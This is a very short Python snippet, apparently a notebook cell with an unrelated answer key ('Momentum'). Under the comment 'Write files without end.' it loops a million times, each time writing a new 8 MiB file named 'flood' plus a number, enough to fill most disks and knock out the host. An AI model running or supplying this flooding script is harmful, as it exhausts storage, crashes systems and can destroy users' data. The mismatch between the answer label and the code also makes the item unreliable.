# Write files without end.

# %% answer="Momentum"
for number in range(10**6):
    with open(f"flood{number}", "wb") as file:
        file.write(bytes(8 << 20))
